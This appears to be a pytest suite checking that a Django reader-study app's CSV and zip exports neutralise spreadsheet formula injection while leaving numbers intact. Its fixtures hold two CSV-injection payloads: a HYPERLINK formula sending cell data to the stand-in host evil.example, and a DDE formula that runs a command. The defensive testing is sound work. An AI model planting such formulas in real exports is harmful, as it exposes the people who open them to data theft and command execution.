"""No exported cell can run as a spreadsheet formula (OWASP CSV injection), in any table or
the zip; numbers stay numbers."""

import csv
import io
import zipfile

import pytest

from pool.models import Image
from readerstudy import exports
from readerstudy.models import Reading
from tests.results.world import finished_study

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def study():
    study = finished_study(
        {"@mallory": [("fake", 4), ("real", 2), ("unsure", 1), ("real", 5)],
         "bob": [("real", 3), ("real", 4), ("fake", 2), ("fake", 1)]},
        ["synthetic", "real", "synthetic", "real"],
    )
    Reading.objects.filter(slot__assignment__reader__username="@mallory").update(
        comment=INJECTION
    )
    Image.objects.filter(study_cases__study=study).update(finding="+cmd|' /C calc'!A0")
    return study


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe(text: str, name: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(STARTS) or is_number(cell), (name, cell)


def test_it_neutralises_formula_cells_in_every_table(study):
    for name in exports.TABLES:
        filename = exports.csv_filename(study, name)
        text = "".join(exports.stream_file(filename, exports.table_rows(name, study)))
        if filename.endswith(".csv"):
            assert_safe(text, name)
    readings = "".join(exports.stream_csv(exports.table_rows("readings", study)))
    # Prefixed with a single quote, and the cell quoted (the quotes inside doubled).
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in readings
    rows = list(csv.DictReader(io.StringIO(readings)))
    assert {r["comment"] for r in rows if r["reader"] == "'@mallory"} == {"'" + INJECTION}
    assert {r["finding"] for r in rows} == {"'+cmd|' /C calc'!A0"}
    # Numbers stay numbers: a negative fake-score is written as a plain number.
    assert "-2" in {r["fake_score"] for r in rows}


def test_it_keeps_negative_numbers_as_numbers_in_the_statistics_tables(study):
    rows = list(csv.DictReader(io.StringIO(
        "".join(exports.stream_csv(exports.table_rows("roc_points", study)))
    )))
    thresholds = [r["threshold"] for r in rows if r["threshold"]]
    assert any(t.startswith("-") for t in thresholds)
    assert all(is_number(t) for t in thresholds)


def test_it_neutralises_the_zip_members_too(study, staff_client):
    response = staff_client.get(f"/staff/studies/{study.public_id}/results/all.zip")
    data = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                assert_safe(archive.read(name).decode(), name)
        readings = archive.read(f"study-{study.public_id}-readings.csv").decode()
    assert "'" + INJECTION.replace('"', '""') in readings


def test_it_neutralises_the_admin_action_and_the_command_output(study):
    from django.core.management import call_command

    out = io.StringIO()
    call_command("export_study", "--table", "readings", "-o", "-", "--", study.public_id,
                 stdout=out, stderr=io.StringIO())
    assert_safe(out.getvalue(), "export_study")
    assert "'" + INJECTION.replace('"', '""') in out.getvalue()


def test_it_leaves_plain_text_and_numbers_alone():
    line = "".join(exports.stream_csv([["plain", -0.5, 3, "", None, "a,b", "-3", "\tx"]]))
    assert line == "plain,-0.5,3,,,\"a,b\",\"'-3\",\"'\tx\"\r\n"
